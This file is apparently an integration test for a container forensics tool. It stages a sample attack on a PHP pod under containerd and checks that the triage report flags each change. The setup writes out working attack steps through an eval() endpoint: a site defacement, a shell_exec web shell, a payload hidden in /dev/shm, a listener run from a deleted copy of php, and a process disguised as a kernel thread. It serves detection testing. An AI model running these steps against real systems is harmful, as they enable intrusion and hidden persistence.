/**
 * The php-links sample's attack (samples/php-links/attack.sh) on a Kubernetes-style pod on
 * a real containerd 1.7 (test/support/test-containerd.ts): apache and PHP in a pod whose
 * network is its sandbox's, attacked over HTTP through its eval() (from the host, inside
 * the pod's network namespace: a pod publishes no port), then a process started by an exec
 * under a kernel thread's name. Triaged through containerd's API, the ground truth of the
 * sample must come out: the web shell, the defacement, the payload in /dev/shm, the
 * listener run from a deleted copy of php, the apache churn ranked below.
 */
import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SEVERITY_RANK } from '../../src/report/severity.js';
import type { TriageReport } from '../../src/report/triage-report.js';
import { runCoroner } from '../support/coroner-run.js';
import { expectedChanges, ROOT } from '../support/engine.js';
import {
  startTestContainerd,
  type PodContainer,
  type TestContainerd,
} from '../support/test-containerd.js';

const run = promisify(execFile);

describe('the php-links attack on a pod on containerd', () => {
  let ctd: TestContainerd;
  let web: PodContainer;
  let cases: string;
  let report: TriageReport;
  const truth = JSON.parse(
    readFileSync(path.join(ROOT, 'samples/php-links/expected.json'), 'utf8'),
  ) as { processes: { deletedExecutable: { path: string }; fromExec: string } };

  /** A GET of the links page with `shell=<php>`, from the host inside the pod's network. */
  const php = async (code: string) =>
    (
      await run('nsenter', [
        `--net=/proc/${web.pid}/ns/net`,
        'curl',
        '-fsS',
        '--max-time',
        '20',
        '-G',
        '--data-urlencode',
        `shell=${code}`,
        'http://127.0.0.1/links.php',
      ])
    ).stdout;

  beforeAll(async () => {
    ctd = await startTestContainerd();
    const image = await ctd.importFromSystem('coroner-sample/php-links:latest');
    web = await ctd.runPod({
      namespace: 'shop',
      pod: 'links-5c8d',
      container: 'web',
      image,
      podLabels: { app: 'links' },
    });
    // Until apache answers (its own healthcheck's question).
    const end = Date.now() + 60_000;
    for (;;) {
      const up = await run('nsenter', [
        `--net=/proc/${web.pid}/ns/net`,
        'curl',
        '-fsS',
        '--max-time',
        '2',
        'http://127.0.0.1/',
      ]).then(
        () => true,
        () => false,
      );
      if (up) break;
      if (Date.now() > end) throw new Error('apache in the php-links pod never answered');
      await new Promise((r) => setTimeout(r, 200));
    }
    // The attack of samples/php-links/attack.sh, over HTTP through the links page's eval().
    await php(
      'file_put_contents("/var/www/html/index.html", "<h1>HACKED BY php-links crew</h1>\\n");',
    );
    await php(
      'file_put_contents("/var/www/html/uploads/.sess.php", "<?php if (isset(\\$_REQUEST[\\"c\\"])) { echo shell_exec(\\$_REQUEST[\\"c\\"]); } ?>\\n");',
    );
    await php('copy("/usr/bin/dash", "/dev/shm/.kworker"); chmod("/dev/shm/.kworker", 0755);');
    await php(
      '@mkdir("/tmp/.X11-unix"); copy("/usr/bin/php8.2", "/tmp/.X11-unix/kdevtmpfsi"); chmod("/tmp/.X11-unix/kdevtmpfsi", 0755); exec("nohup /tmp/.X11-unix/kdevtmpfsi -r \'\\$s = stream_socket_server(\\"tcp://0.0.0.0:4444\\"); while (true) { \\$c = @stream_socket_accept(\\$s, 3600); if (\\$c) fclose(\\$c); }\' > /dev/null 2>&1 &"); sleep(1); unlink("/tmp/.X11-unix/kdevtmpfsi");',
    );
    // With access to containerd: an exec named like a kernel thread.
    await ctd.ctr(
      '-n',
      'k8s.io',
      'tasks',
      'exec',
      '--detach',
      '--exec-id',
      'kworker',
      web.id,
      'bash',
      '-c',
      'exec -a "[kworker/u8:2]" sleep 86400',
    );
    const listening = Date.now() + 20_000;
    while ((await php('echo @fsockopen("127.0.0.1", 4444) ? "up" : "down";')) !== 'up') {
      if (Date.now() > listening) throw new Error('the listener never listened');
      await new Promise((r) => setTimeout(r, 100));
    }
    cases = await mkdtemp(path.join(os.tmpdir(), 'coroner-ctd-links-'));
    const triage = await runCoroner([
      'triage',
      '--containerd',
      ctd.address,
      '--pod-logs',
      ctd.podLogs,
      'shop/links-5c8d/web',
      '--json',
      '--case-dir',
      path.join(cases, 'case'),
    ]);
    expect(triage.code, triage.stderr).toBe(3);
    report = JSON.parse(triage.stdout) as TriageReport;
  }, 600_000);

  afterAll(async () => {
    await ctd?.destroy();
    if (cases) await rm(cases, { recursive: true, force: true });
  }, 120_000);

  it("finds the sample's ground truth, the tmpfs payload included, the attack above the churn", () => {
    const expected = expectedChanges('php-links') as (ReturnType<typeof expectedChanges>[number] & {
      mount?: string;
    })[];
    const listed = [...report.changes].filter((c) => !c.isParentOnly);
    for (const e of expected) {
      const change = listed.find((c) => c.path === e.path);
      expect(change, e.path).toBeDefined();
      expect(change!.kind, e.path).toBe(e.kind);
      expect(change!.mount?.type, e.path).toBe(e.mount);
      if (!e.malicious) continue;
      const finding = change!.findings.find((f) => f.rule === e.rule);
      expect(finding, `${e.path}: ${e.rule}`).toBeDefined();
      expect(SEVERITY_RANK[finding!.severity]).toBeGreaterThanOrEqual(
        SEVERITY_RANK[e.minSeverity!],
      );
    }
    const rank = (p: string) => SEVERITY_RANK[listed.find((c) => c.path === p)!.severity];
    const lowestMalice = Math.min(...expected.filter((e) => e.malicious).map((e) => rank(e.path)));
    const highestChurn = Math.max(...expected.filter((e) => !e.malicious).map((e) => rank(e.path)));
    expect(lowestMalice).toBeGreaterThan(highestChurn);
  });

  it('names the listener run from a deleted copy of php, and the process under a kernel name', () => {
    const processes = report.processes ?? [];
    const deleted = processes.find((p) => p.exe.path === truth.processes.deletedExecutable.path);
    expect(deleted?.exe.isDeleted).toBe(true);
    expect(deleted?.findings.length).toBeGreaterThan(0);
    const disguised = processes.find((p) => p.commandLine[0] === truth.processes.fromExec);
    expect(disguised?.isFromExec).toBe(true);
    expect(disguised?.findings.length).toBeGreaterThan(0);
  });

  it('leaves the pod running', async () => {
    expect(report.container.stateAtStart.isRunning).toBe(true);
    expect(await php('echo "still";')).toBe('still');
  });
});
